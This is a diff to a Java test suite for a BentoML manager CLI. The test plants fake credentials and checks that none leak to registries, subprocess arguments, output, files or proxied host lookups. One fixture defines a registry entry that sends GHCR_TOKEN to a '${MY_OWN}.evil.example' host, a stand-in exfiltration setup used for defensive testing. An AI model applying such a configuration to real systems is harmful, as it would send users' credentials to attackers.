@@ -2,6 +2,13 @@ package com.bentoml.manager.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.bentoml.manager.process.StopSignal;
+import com.bentoml.manager.project.ProgramEnvironment;
+import com.bentoml.manager.registry.HttpRegistry;
+import com.bentoml.manager.registry.KnownManifests;
+import com.bentoml.manager.registry.Registries;
+import com.bentoml.manager.registry.RegistryLimits;
+import com.bentoml.manager.testing.Cli;
 import com.bentoml.manager.testing.FakeDocker;
 import com.bentoml.manager.testing.Program;
 import com.bentoml.manager.testing.RegistryServer;
@@ -11,7 +18,6 @@ import com.bentoml.manager.testing.Trees;
 import java.io.BufferedReader;
 import java.io.IOException;
 import java.io.InputStreamReader;
-import java.io.UncheckedIOException;
 import java.net.InetAddress;
 import java.net.ServerSocket;
 import java.net.Socket;
@@ -19,6 +25,8 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
+import java.time.InstantSource;
+import java.util.Base64;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
@@ -30,11 +38,11 @@ import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * Secrets of a user's environment, looked for wherever the whole program, in a process of its own, can let them out: at a
- * registry, in the arguments and the environment of every program it starts, in its output and its files, and among the
- * names of hosts that it looks up, which it leaves to a proxy.
+ * Secrets of a user's environment, looked for wherever the whole program can let them out: at a registry, in the
+ * arguments and the environment of every program it starts, in its output and its files, and among the names of hosts
+ * that it looks up, which it leaves to a proxy.
  */
-@Timeout(120)
+@Timeout(300)
 class PlantedSecretsTest {
     private static final Map<String, String> SECRETS = Map.of(
             "DOCKER_USER", "planted-user",
@@ -42,7 +50,7 @@ class PlantedSecretsTest {
             "DOCKER_PASSWORD", "planted-docker-password",
             "GHCR_TOKEN", "planted-ghcr",
             "QUAY_API_KEY", "planted-quay",
-            "REG_PASS", "planted-reg",
+            "REG_KEY", "planted-reg",
             "MY_OWN", "kept-own");
 
     @TempDir
@@ -80,13 +88,13 @@ class PlantedSecretsTest {
                 .file(
                         "manifest/registries.yaml",
                         "reg: {server: \"" + registry.host() + "\", provider: harbor2, username_variable: DOCKER_USER,"
-                                + " password_variable: REG_PASS}\n"
+                                + " password_variable: REG_KEY}\n"
                                 + "leak: {server: \"${MY_OWN}.evil.example\", provider: none, username_variable: EVIL,"
                                 + " password_variable: GHCR_TOKEN}\n");
         Trees.write(folder.resolve(".git/HEAD"), "ref: refs/heads/main\n");
         assertThat(run(Map.of(), "generate --bentoml_version 1.0.0 --dump_metadata --registry " + registry.host()))
                 .contains("files: ");
-        docker.with("fail/" + SampleProject.BASE, "ERROR: echo planted-ghcr planted-reg planted-docker-pass\n");
+        docker.with("fail/" + SampleProject.BASE, said("planted-ghcr planted-reg planted-docker-pass"));
     }
 
     @AfterEach
@@ -112,7 +120,7 @@ class PlantedSecretsTest {
         }
 
         assertThat(said.toString())
-                .contains("REG_PASS of the environment would go to " + registry.host(), "MY_OWN of the environment");
+                .contains("REG_KEY of the environment would go to " + registry.host(), "MY_OWN of the environment");
         assertThat(registry.heard()).isNotEmpty();
         assertThat(Trees.text(record)).contains("argv: ", "docker buildx build", "docker login ");
         assertThat(names).containsOnly("CONNECT base.evil.example:443 HTTP/1.1");
@@ -122,12 +130,41 @@ class PlantedSecretsTest {
     /** Else none of the above would show anything. */
     @Test
     void theSecretGoesToATrustedRegistryByStdinOnly() throws Exception {
-        String said = run(Map.of("MANAGER_TRUSTED_REGISTRIES", registry.host()), "authenticate --registry reg -v 5");
+        Process process = Program.in(folder)
+                .with(environment(Map.of("MANAGER_TRUSTED_REGISTRIES", registry.host())))
+                .startHeard("authenticate", "--registry", "reg", "-v", "5");
+        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
 
         assertThat(docker.read("password")).isEqualTo("planted-reg\n");
         docker.with("password", "");
         assertThat(Trees.text(record)).contains("login --username planted-user --password-stdin");
         requireNone((said + Trees.text(record)).replace("planted-user", ""));
+    }
+
+    /** docker itself needs it in its arguments. */
+    @Test
+    void whatIsGivenToABuildIsShownNowhere() {
+        docker.with("fail/" + SampleProject.BASE, said("planted-npm"));
+
+        String said = run(
+                Map.of(), "build --no_push --force --build_arg NPM_TOKEN=planted-npm -v 5 --output json --retries 0");
+
+        assertThat(docker.read("calls")).contains("NPM_TOKEN=planted-npm");
+        assertThat(said).contains("NPM_TOKEN=***", "next:");
+        assertThat(said + Trees.read(folder) + Trees.read(user)).doesNotContain("planted");
+    }
+
+    /** A failing build that tells a text as it is, and encoded as buildx encodes it. */
+    private static String said(String text) {
+        String data = Base64.getEncoder().encodeToString((text + "\n").getBytes(StandardCharsets.UTF_8));
+        String escaped = text.replace("-", "\\u002d");
+        return """
+                {"vertexes":[{"digest":"sha256:1","name":"[1/1] RUN %s","started":"2026-01-01T00:00:00Z"}]}
+                {"logs":[{"vertex":"sha256:1","data":"%s"}]}
+                {"vertexes":[{"digest":"sha256:1","name":"[1/1] RUN %s","started":"2026-01-01T00:00:00Z",\
+                "completed":"2026-01-01T00:00:01Z","error":"%s"}]}
+                ERROR: echo %s
+                """.formatted(escaped, data, escaped, escaped, text);
     }
 
     private void requireNone(String said) {
@@ -144,6 +181,13 @@ class PlantedSecretsTest {
     }
 
     private String run(Map<String, String> more, String command) {
+        Registries registries = visit -> new HttpRegistry(visit, new RegistryLimits(), new KnownManifests());
+        ProgramEnvironment.Run run = new ProgramEnvironment.Run(InstantSource.system(), new StopSignal(), 0);
+        Cli.Result result = docker.run(folder, environment(more), registries, run, command.split(" "));
+        return result.out() + result.err();
+    }
+
+    private Map<String, String> environment(Map<String, String> more) {
         Map<String, String> environment = new HashMap<>(SECRETS);
         environment.put("HOME", user.toString());
         environment.put("FAKE_DOCKER", state.toString());
@@ -151,12 +195,7 @@ class PlantedSecretsTest {
                 "PATH", state.resolve("bin") + ":" + docker.environment().get("PATH"));
         environment.put("HTTPS_PROXY", "http://127.0.0.1:" + proxy.getLocalPort());
         environment.putAll(more);
-        Process process = Program.in(folder).with(environment).startHeard(command.split(" "));
-        try {
-            return new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
-        } catch (IOException e) {
-            throw new UncheckedIOException(e);
-        }
+        return environment;
     }
 
     private void refuseAll() {
